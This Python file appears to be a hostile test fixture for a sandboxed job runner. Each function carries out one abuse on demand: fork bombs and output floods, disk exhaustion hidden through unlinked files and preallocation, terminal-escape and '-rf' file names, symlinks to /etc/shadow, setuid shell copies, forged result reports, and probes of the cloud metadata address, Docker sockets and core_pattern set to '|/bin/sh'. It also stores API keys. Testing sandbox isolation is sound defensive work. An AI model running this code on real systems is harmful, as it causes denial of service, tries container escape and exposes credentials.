"""A framework that means harm, or is broken badly enough to look like it: each way on demand."""

from __future__ import annotations

import contextlib
import errno
import json
import os
import pathlib
import signal
import socket
import stat
import time

WORKSPACE, OUT, STATE = pathlib.Path("/workspace"), pathlib.Path("/out"), pathlib.Path("/state")
MIB = 1024**2
MANY = 50_000
"""Files that `many` makes, if it is let."""
TOO_MANY, TOO_FULL = 25_000, 100
"""Files, and blocks of a mebibyte, that are beyond what is allowed: from there on it goes so slowly that not all of them can
be made before the step's time is over, however late the runner comes to look."""
FOREVER = 3600
"""Seconds: longer than any step may take, so that who waits is stopped."""
LINE = 10 * 1024 * MIB
"""Bytes of the line that `flood` prints."""


def note(**found: object) -> None:
    """Keep what was found, in the workspace."""
    (WORKSPACE / "found.json").write_text(json.dumps(found, sort_keys=True))


def bomb() -> None:
    """Fork as fast as possible, in every child too, deaf to all that can be ignored."""
    note(begun=True)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)


def flood() -> None:
    """Print one line that does not end."""
    note(begun=True)
    chunk, left = b"y" * MIB, LINE
    while left:
        left -= os.write(1, chunk[:left])


def many() -> None:
    """Make small files, in folders of a thousand."""
    for number in range(MANY):
        folder = WORKSPACE / str(number // 1000)
        if number % 1000 == 0:
            folder.mkdir()
        (folder / str(number)).touch()
        if number > TOO_MANY:
            time.sleep(0.01)
    time.sleep(FOREVER)


def fill() -> None:
    """Fill the workspace, and go on when asked to stop."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in range(600):
        (WORKSPACE / f"block{number % 100}").open("ab").write(b"z" * MIB)
        time.sleep(0.01 if number < TOO_FULL else 0.5)


def hidden() -> None:
    """Fill /state with blocks beyond the end of a file, where its size does not show them."""
    import ctypes

    note(begun=True)
    libc = ctypes.CDLL(None, use_errno=True)
    with (STATE / "small").open("wb") as small:
        keep_size = 1
        if libc.fallocate64(small.fileno(), keep_size, ctypes.c_int64(0), ctypes.c_int64(80 * MIB)):
            raise OSError(ctypes.get_errno(), "fallocate")
    time.sleep(FOREVER)


def nameless() -> None:
    """Fill the disk through files that no folder shows: without a name, and open."""
    note(begun=True)
    held = []
    for number in range(2):
        path = WORKSPACE / f"gone{number}"
        held.append(path.open("wb"))
        path.unlink()
        for _ in range(50):
            held[-1].write(b"n" * MIB)
    time.sleep(FOREVER)


def holes() -> None:
    """Make files that take nothing from the disk, and whoever read them would read for hours."""
    for number in range(10_000):
        with (WORKSPACE / f"hole{number}").open("wb") as hole:
            hole.truncate(60 * MIB)


def giant() -> None:
    """Make a file of a terabyte; the first time see what is said, the second time die of it."""
    try:
        os.truncate(os.open(WORKSPACE / "giant", os.O_WRONLY | os.O_CREAT), 1 << 40)
    except OSError as error:
        note(refused=errno.errorcode.get(error.errno or 0, str(error)))
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    os.truncate(WORKSPACE / "giant", 1 << 40)


def zoo() -> None:
    """Leave everything in the workspace that a file system can hold and a reader may stumble over."""
    for number, name in enumerate(("two\nlines", "\x1b[2J\x1b]0;owned\x07", "\u202etxt.exe", "-rf", " ", "..."), 1):
        (WORKSPACE / name).write_text(str(number))
    with open(b"/workspace/\xff\xfe", "wb") as raw:
        raw.write(b"no text")
    for name, target in {
        "shadow": "/etc/shadow",
        "root": "/",
        "up": "../../../../../../etc/passwd",
        "loop": "loop",
        "self": ".",
        "proc": "/proc/self/mem",
    }.items():
        (WORKSPACE / name).symlink_to(target)
    (WORKSPACE / "hard").hardlink_to(WORKSPACE / " ")
    os.mkfifo(WORKSPACE / "pipe")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("/workspace/socket")
    refused = {
        "link out": _refusal(lambda: os.link("/etc/passwd", "/workspace/passwd")),
        "device": _refusal(lambda: os.mknod("/workspace/device", 0o666 | stat.S_IFBLK, os.makedev(8, 0))),
        "clock": _refusal(lambda: time.clock_settime(time.CLOCK_REALTIME, 0)),
        "owner": _refusal(lambda: os.chown("/workspace/hard", 12345, 12345)),
    }
    (WORKSPACE / "setuid").write_bytes(pathlib.Path("/bin/sh").read_bytes()[:4096])
    (WORKSPACE / "setuid").chmod(0o6755)
    for name, moment in {"ancient": -(2**33), "future": 2**34}.items():
        (WORKSPACE / name).touch()
        os.utime(WORKSPACE / name, (moment, moment))
    current = os.open(WORKSPACE, os.O_RDONLY)
    for _ in range(60):
        os.mkdir("d" * 100, dir_fd=current)
        current = os.open("d" * 100, os.O_RDONLY, dir_fd=current)
    note(refused=refused)
    (WORKSPACE / "closed").mkdir()
    for path in (WORKSPACE / "closed" / "inner", WORKSPACE / "locked"):
        path.write_text("kept")
        path.chmod(0)
    for path in (WORKSPACE / "closed", OUT, STATE, WORKSPACE):
        path.chmod(0)


def _refusal(deed: object) -> str:
    """Return by which error something was refused; empty if it was not."""
    try:
        deed()  # type: ignore[operator]  # every deed is a lambda
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return ""


def late() -> None:
    """Report well, and leave a child behind that writes already, and goes on to: to /out, to the workspace, as the shim."""
    note(begun=True)
    (OUT / "result.json").write_text('{"version": 1, "message": "well"}')
    if os.fork():
        while not (WORKSPACE / "later").exists():
            time.sleep(0.01)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.closerange(0, 3)
    while True:
        for path in (OUT / "result.json", OUT / ".shim.json", WORKSPACE / "later"):
            with contextlib.suppress(OSError):
                path.write_text(f'{{"version": 1, "message": "{time.time()}", "exit_code": 99, "stdout_bytes": 99}}')


def full() -> None:
    """Fill what is in memory, and put pipes and folders where reports are expected."""
    found = {folder: _fill(pathlib.Path(folder)) for folder in ("/tmp", "/dev/shm")}
    note(**{folder: (name, size // MIB) for folder, (name, size) in found.items()})
    os.mkfifo(OUT / "result.json")
    os.mkfifo(OUT / ".answers.jsonl")
    (OUT / ".shim.json" / "part").mkdir(parents=True)


def _fill(folder: pathlib.Path) -> tuple[str, int]:
    size = 0
    with (folder / "ballast").open("wb", buffering=0) as ballast:
        try:
            while True:
                size += ballast.write(b"b" * MIB)
        except OSError as error:
            return errno.errorcode.get(error.errno or 0, str(error)), size


def shout() -> None:
    """Say things that act on a terminal, wherever something is said."""
    note(begun=True)
    evil = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202egnp.\x7f\r\nforged: line"
    (OUT / "result.json").write_text(json.dumps({"version": 1, "message": evil, "phases": [{"name": evil}]}))
    print(evil, flush=True)
    raise SystemExit(3)


def reach() -> None:
    """Try every way to somewhere else; say what could be reached."""
    reached = [where for where, deed in _ways_out().items() if _refusal(deed) == ""]
    tokens = WORKSPACE / "tokens"
    earlier = tokens.read_text().split() if tokens.exists() else []
    own = os.environ["OPENAI_API_KEY"]
    answers = {"own": _ask(own), "none": _ask(""), "guessed": _ask("0" * len(own))}
    with tokens.open("a") as file:
        file.write(f"{own}\n")
    index = json.loads(pathlib.Path("/in/step.json").read_text())["step"]["index"]
    (WORKSPACE / f"found{index}.json").write_text(
        json.dumps(
            {
                "reached": reached,
                "answers": answers,
                "earlier": [_ask(token) for token in earlier],
                "gateway": sorted(os.listdir("/run/gateway")),
                "processes": sorted(name for name in os.listdir("/proc") if name.isdigit())[:1],
            }
        )
    )


def _ways_out() -> dict[str, object]:
    """Return deeds that raise OSError unless they reach something."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)

    def call(name: str, *arguments: object) -> None:
        if getattr(libc, name)(*arguments):
            raise OSError(ctypes.get_errno(), name)

    def connect(address: tuple[str, int]) -> None:
        socket.create_connection(address, timeout=2).close()

    def unix(path: str) -> None:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)

    addresses = (("169.254.169.254", 80), ("172.17.0.1", 22), ("10.0.0.1", 80), ("192.0.2.1", 443))
    sockets = (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "\0/containerd-shim/x.sock",
    )
    clone_new_user = 0x10000000
    return {
        **{f"{host}:{port}": lambda to=(host, port): connect(to) for host, port in addresses},
        **{path: lambda to=path: unix(to) for path in sockets},
        "names": lambda: socket.getaddrinfo("host.docker.internal", 80),
        "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packets": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "mount": lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        "namespace": lambda: call("unshare", clone_new_user),
        "trigger": lambda: pathlib.Path("/proc/sysrq-trigger").write_text("h"),
        "core pattern": lambda: pathlib.Path("/proc/sys/kernel/core_pattern").write_text("|/bin/sh"),
        "cgroup": lambda: pathlib.Path("/sys/fs/cgroup/memory/memory.limit_in_bytes").write_text("-1"),
        "memory": lambda: pathlib.Path("/dev/mem").read_bytes(),
        "kernel log": lambda: pathlib.Path("/proc/kmsg").open().read(1),
        "gateway": lambda: pathlib.Path("/run/gateway/x").write_text("x"),
        "beside gateway": lambda: pathlib.Path("/run/gateway/../x").write_text("x"),
    }


def _ask(token: str) -> int:
    """Ask the gateway with a token; return the status of its answer."""
    import urllib.error  # not above: a bomb has little time, and these take most of an interpreter's start
    import urllib.request

    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "Hello?"}]}).encode()
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
    request = urllib.request.Request("http://127.0.0.1:4000/v1/chat/completions", body, headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return int(reply.status)
    except urllib.error.HTTPError as error:
        return error.code


if __name__ == "__main__":
    globals()[pathlib.Path("/in/prompt.txt").read_text().strip()]()
